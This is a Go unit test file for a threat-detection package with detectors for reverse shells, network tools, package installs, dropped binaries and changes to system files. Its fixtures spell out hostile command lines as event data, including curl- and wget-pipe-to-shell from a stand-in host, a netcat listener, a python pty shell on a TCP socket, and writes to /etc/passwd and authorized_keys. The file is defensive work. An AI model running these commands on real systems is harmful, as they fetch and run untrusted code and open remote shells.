package threat

import "testing"

func TestReverseShellDetector(t *testing.T) {
	only := []string{TypeReverseShell}
	sock := `"fds":{"0":"socket:tcp:10.0.0.9:4444","1":"socket:tcp:10.0.0.9:4444","2":"socket:tcp:10.0.0.9:4444"}`
	runDetectorCases(t, only, []detectorCase{
		{name: "bash on socket", lines: []string{ev(`"type":"exec","pid":7,"comm":"bash","exe":"/bin/bash","argv":["bash","-i"],` + sock)}, want: only},
		{name: "busybox sh", lines: []string{ev(`"type":"exec","exe":"/bin/busybox","argv":["busybox","sh"],` + sock)}, want: only},
		{name: "python pty", lines: []string{ev(`"type":"exec","exe":"/usr/bin/python3","argv":["python3","-c","import pty;pty.spawn('/bin/sh')"],` + sock)}, want: only},
		{name: "different sockets", lines: []string{ev(`"type":"exec","exe":"/bin/sh","argv":["sh"],"fds":{"0":"socket:tcp:10.0.0.9:4444","1":"socket:tcp:10.0.0.9:5555"}`)}},
		{name: "only stdin socket", lines: []string{ev(`"type":"exec","exe":"/bin/sh","argv":["sh"],"fds":{"0":"socket:tcp:10.0.0.9:4444","1":"pipe"}`)}},
		{name: "unix socket", lines: []string{ev(`"type":"exec","exe":"/bin/sh","argv":["sh"],"fds":{"0":"socket:unix:/run/x","1":"socket:unix:/run/x"}`)}},
		{name: "not a shell", lines: []string{ev(`"type":"exec","exe":"/usr/sbin/nginx","argv":["nginx"],` + sock)}},
		{name: "python server", lines: []string{ev(`"type":"exec","exe":"/usr/bin/python3","argv":["python3","app.py"],` + sock)}},
	})
}

func TestToolDetector(t *testing.T) {
	only := []string{TypeSuspiciousTool}
	runDetectorCases(t, only, []detectorCase{
		{name: "nc", lines: []string{ev(`"type":"exec","exe":"/usr/bin/nc","argv":["nc","-lvp","4444"]`)}, want: only},
		{name: "busybox nc", lines: []string{ev(`"type":"exec","exe":"/bin/busybox","argv":["busybox","nc","10.0.0.9","4444"]`)}, want: only},
		{name: "nmap", lines: []string{ev(`"type":"exec","exe":"/usr/bin/nmap","argv":["nmap","-sS","10.0.0.0/24"]`)}, want: only},
		{name: "curl pipe sh", lines: []string{ev(`"type":"exec","exe":"/bin/sh","argv":["sh","-c","curl -fsSL http://x.example/i.sh | sh"]`)}, want: only},
		{name: "wget pipe sudo bash", lines: []string{ev(`"type":"exec","exe":"/bin/sh","argv":["sh","-c","wget -qO- http://x.example/i | sudo bash"]`)}, want: only},
		{name: "command substitution", lines: []string{ev(`"type":"exec","exe":"/bin/bash","argv":["bash","-c","$(curl -fsSL http://x.example/i)"]`)}, want: only},
		{name: "curl to file", lines: []string{ev(`"type":"exec","exe":"/bin/sh","argv":["sh","-c","curl -o /tmp/f http://x.example/f | tee log"]`)}},
		{name: "plain curl", lines: []string{ev(`"type":"exec","exe":"/usr/bin/curl","argv":["curl","https://example.com"]`)}},
	})
}

func TestPackageManagerDetector(t *testing.T) {
	only := []string{TypePackageManager}
	x := func(argv string) string { return ev(`"type":"exec","argv":` + argv) }
	runDetectorCases(t, only, []detectorCase{
		{name: "apt-get", lines: []string{x(`["apt-get","install","-y","nmap"]`)}, want: only},
		{name: "apk add", lines: []string{x(`["apk","add","socat"]`)}, want: only},
		{name: "dpkg -i", lines: []string{x(`["dpkg","-i","x.deb"]`)}, want: only},
		{name: "pip install", lines: []string{x(`["pip3","install","requests"]`)}, want: only},
		{name: "python -m pip install", lines: []string{x(`["python3","-m","pip","install","x"]`)}, want: only},
		{name: "npm ci", lines: []string{x(`["npm","ci"]`)}, want: only},
		{name: "dpkg query", lines: []string{x(`["dpkg","--print-architecture"]`)}},
		{name: "npm start", lines: []string{x(`["npm","start"]`)}},
		{name: "pip list", lines: []string{x(`["pip","list"]`)}},
	})
}

func TestNewBinaryDetector(t *testing.T) {
	only := []string{TypeNewBinary}
	write := evAt("01", `"type":"file","op":"create","path":"/tmp/x"`)
	run := evAt("02", `"type":"exec","exe":"/tmp/x","argv":["/tmp/x"]`)
	runDetectorCases(t, only, []detectorCase{
		{name: "written then run", lines: []string{write, run}, want: only},
		{name: "relative path", lines: []string{evAt("01", `"type":"file","op":"chmod","path":"x","cwd":"/tmp"`), run}, want: only},
		{name: "run only", lines: []string{run}},
		{name: "deleted and run", lines: []string{write, evAt("01", `"type":"file","op":"delete","path":"/tmp/x"`), run}},
		{name: "not in manifest", cfg: Config{Manifest: map[string]bool{"/bin/sh": true}}, lines: []string{run, ev(`"type":"exec","exe":"/bin/sh"`)}, want: only},
		{name: "in manifest", cfg: Config{Manifest: map[string]bool{"/tmp/x": true}}, lines: []string{run}},
	})
}

func TestFileDetector(t *testing.T) {
	only := []string{TypeSystemConfigModified, TypeSystemBinaryModified, TypeCronModified, TypeSSHKeysModified}
	w := func(op, path string) string { return ev(`"type":"file","op":"` + op + `","path":"` + path + `"`) }
	runDetectorCases(t, only, []detectorCase{
		{name: "etc", lines: []string{w("write", "/etc/passwd")}, want: []string{TypeSystemConfigModified}},
		{name: "cron", lines: []string{w("create", "/etc/cron.d/x"), w("write", "/var/spool/cron/crontabs/root")}, want: []string{TypeCronModified, TypeCronModified}},
		{name: "bin", lines: []string{w("rename", "/usr/bin/ls"), w("write", "/lib/x86_64-linux-gnu/libc.so.6")}, want: []string{TypeSystemBinaryModified, TypeSystemBinaryModified}},
		{name: "authorized_keys", lines: []string{w("write", "/root/.ssh/authorized_keys")}, want: []string{TypeSSHKeysModified}},
		{name: "runtime-managed", lines: []string{w("write", "/etc/resolv.conf"), w("write", "/etc/hosts")}},
		{name: "pycache", lines: []string{w("create", "/usr/lib/python3.12/__pycache__/x.cpython-312.pyc")}},
		{name: "tmp and app", lines: []string{w("write", "/tmp/x"), w("write", "/app/data/etc/x")}},
	})
}
